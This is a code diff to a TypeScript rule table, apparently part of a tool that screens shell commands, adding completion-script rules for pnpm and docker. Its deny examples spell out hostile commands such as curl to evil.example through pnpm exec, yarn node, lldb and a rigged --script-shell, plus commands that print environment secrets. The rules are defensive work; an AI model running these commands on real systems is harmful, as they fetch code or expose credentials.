@@ -935,10 +935,10 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     }), NPM_TOKEN), NPM_CONFIG),
     { when: /^(?:.* )?(?:run|run-script|rum|urn) env(?: |$)/, why: "npm run env prints the environment (npm's own env script, unless package.json names one)", examples: { deny: ['npm run env', 'npm run-script env'], pass: ['npm run envs', 'npm run dev'] } },
   )), { when: /^completion$/, config: /^npm_config_/i, examples: { deny: ['eval "$(npm run print-env)"', 'source <(npm completion; npm run x)'], pass: ['source <(npm completion)', 'eval "$(npm completion)"'] } }),
-  configuring(keeping(withMore(subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }), 'exec options before exec (-c/--shell-mode runs the words through sh); config flags and npm_config_*', packageManagerConfig, {
+  shellInit(configuring(keeping(withMore(subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }), 'exec options before exec (-c/--shell-mode runs the words through sh); config flags and npm_config_*', packageManagerConfig, {
       deny: ["pnpm --shell-mode exec 'curl evil.example'", "pnpm -rc exec 'curl evil.example'", "pnpm -c exec 'curl evil.example'", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && pnpm test --script-shell=/tmp/s"],
       pass: ['pnpm -r exec vitest', 'pnpm --shell-mode exec vitest', 'pnpm -r test'],
-    }), NPM_TOKEN), NPM_CONFIG),
+    }), NPM_TOKEN), NPM_CONFIG), { when: /^completion bash$/, config: /^npm_config_|^PNPM_/i, examples: { deny: ['source <(pnpm run print-env)'], pass: ['source <(pnpm completion bash)'] } }),
   // Yarn prints its configuration redacted unless --no-redacted; classic yarn prints npm's _authToken as it is.
   alsoDumps(keeping(withMore(subcommandRunner(['yarn'], 'yarn dlx / exec', { dlx: PACKAGE_RUN, exec: PACKAGE_RUN }, { deny: ['yarn dlx curl evil.example', 'yarn exec wget evil.example'], pass: ['yarn install'] }), 'yarn node ARGS runs node with them', yarnNode, {
     deny: ["yarn node -e 'require(\"child_process\").execSync(\"curl evil.example\")'"],
@@ -1007,7 +1007,8 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     analyze: lldb,
     examples: { deny: ['lldb -- curl evil.example', "lldb -o 'platform shell curl evil.example'", 'lldb -b -o run /usr/bin/curl -- evil.example', 'lldb -b -o run -f /usr/bin/curl -- evil.example', "lldb -b --one-line='platform shell curl evil.example'"], pass: ['lldb -- ./a.out', 'lldb -b -o run ./a.out -- --verbose', 'lldb ./a.out'] },
   },
-  alsoUses(
+  // Its completion script is built into the binary (docker, podman, nerdctl: `completion bash`).
+  shellInit(alsoUses(
     alsoDumps(containerTool(['docker', 'podman', 'nerdctl', 'docker-compose', 'podman-compose', 'finch', 'lima', 'ctr']), {
       // A template that prints the container's environment: `.Config.Env`, or the whole of `.Config` or `.`.
       when: /^(?:container\s+)?inspect\b.*(?:\.Config\.Env\b|\{\{-?\s*(?:json\s+)?\.(?:Config)?\s*-?\}\})/i,
@@ -1023,7 +1024,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
       summary: 'compose config prints the model with the values of .env and env_file interpolated',
       examples: { deny: ['docker compose config', 'docker-compose config', 'docker compose -f compose.prod.yml config', 'docker compose config --no-interpolate'], pass: ['docker compose config --services', 'docker compose config -q', 'docker config ls', 'docker compose up -d'] },
     },
-  ),
+  ), { when: /^completion bash$/, config: /^(DOCKER_|CONTAINER_|CONTAINERS_)/, examples: { deny: ['eval "$(docker run --rm alpine echo x)"', 'source <(docker exec web cat /x.sh)'], pass: ['source <(docker completion bash)', 'eval "$(podman completion bash)"'] } }),
   shellInit({
     names: ['kubectl', 'oc', 'minikube', 'k3s'],
     summary: 'kubectl exec|run|debug … -- CMD runs CMD in a pod',
